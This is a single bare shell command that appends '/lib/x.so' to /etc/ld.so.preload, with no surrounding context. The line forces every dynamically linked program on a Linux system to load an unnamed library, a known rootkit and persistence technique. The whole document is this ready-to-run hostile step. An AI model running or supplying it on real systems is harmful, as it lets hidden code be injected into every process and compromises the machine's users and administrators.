printf '/lib/x.so\n' | tee -a /etc/ld.so.preload >/dev/null
